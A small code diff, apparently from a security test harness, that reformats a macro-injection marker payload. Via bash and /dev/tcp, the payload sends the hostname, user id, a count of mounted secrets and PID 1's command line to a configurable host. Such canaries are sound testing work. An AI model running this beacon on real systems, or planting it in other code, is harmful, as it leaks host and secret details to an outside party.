@@ -93,7 +93,8 @@ def scenarios(sources: SourceServer) -> tuple[Scenario, ...]:
     # Says where a macro ran: the host's name, who it was, how many secrets it saw, and what PID 1 is there.
     mark = (
         f"%(bash -c 'exec 3<>/dev/tcp/{host}/{port} && {{ "
-        "echo GET /mark/$(hostname)/$(id -u)/$(ls -A /var/run/secrets | wc -l)/$(tr -c a-z. _ < /proc/1/cmdline) HTTP/1.0; echo; } >&3 "
+        "echo GET /mark/$(hostname)/$(id -u)/$(ls -A /var/run/secrets | wc -l)/"
+        "$(tr -c a-z. _ < /proc/1/cmdline) HTTP/1.0; echo; } >&3 "
         "&& cat <&3 >/dev/null'; echo 1)"
     )
     return (
